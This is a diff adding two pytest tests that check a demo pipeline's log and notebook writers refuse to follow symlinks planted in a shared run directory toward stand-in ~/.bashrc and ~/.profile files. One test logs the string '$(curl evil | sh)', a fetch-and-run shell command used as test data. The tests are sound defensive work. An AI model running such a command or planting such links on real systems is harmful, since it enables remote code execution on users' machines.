@@ -25,6 +25,7 @@ from textsql.console import (
 )
 from textsql.display.terminal import StageView, cell_output_to
 from textsql.errors import TextSQLError
+from worker.files import UnsafePath
 
 # Lines DeepSpeed's runner and the ranks print in a demo, read from a real launch.log.
 NOISE = [
@@ -217,6 +218,37 @@ def test_cell_output_goes_to_the_log_file_not_the_terminal(tmp_path, capsys):
         logging.getLogger("papermill").warning("Tokenizing: 100%%|##########| 1000/1000")
     assert "Tokenizing" in (tmp_path / "demo.log").read_text()
     assert "Tokenizing" not in capsys.readouterr().err
+
+
+def test_a_link_a_worker_planted_at_the_demo_log_is_never_written_through(tmp_path):
+    """The demo's log lies in the run directory the pods share: a link there must not make the master append a
+    rank's text to another file (a stand-in ~/.bashrc here)."""
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("# the user's own\n")
+    (tmp_path / "demo.log").symlink_to(bashrc)
+    view = StageView(total=1, stream=io.StringIO(), live=False)
+    with pytest.raises(UnsafePath, match="demo.log"), cell_output_to(tmp_path / "demo.log", view):
+        logging.getLogger("papermill").warning("Error: $(curl evil | sh)")
+    assert bashrc.read_text() == "# the user's own\n"
+
+
+def test_papermill_writes_an_executed_notebook_without_following_a_planted_link(tmp_path):
+    """Papermill writes RUN_DIR/notebooks/*.ipynb at the start and every 30 s: a link there is replaced, not
+    written through (a stand-in ~/.profile here)."""
+    import nbformat
+    from papermill.iorw import write_ipynb
+
+    from textsql.pipeline.runs import write_notebooks_without_following_links
+
+    profile = tmp_path / "profile"
+    profile.write_text("# the user's own\n")
+    executed = tmp_path / "notebooks" / "01_prepare_dataset.ipynb"
+    executed.parent.mkdir()
+    executed.symlink_to(profile)
+    write_notebooks_without_following_links()
+    write_ipynb(nbformat.v4.new_notebook(), str(executed))
+    assert profile.read_text() == "# the user's own\n"
+    assert not executed.is_symlink() and nbformat.reads(executed.read_text(), as_version=4).cells == []
 
 
 LOAD_A_SAVED_MODEL = """
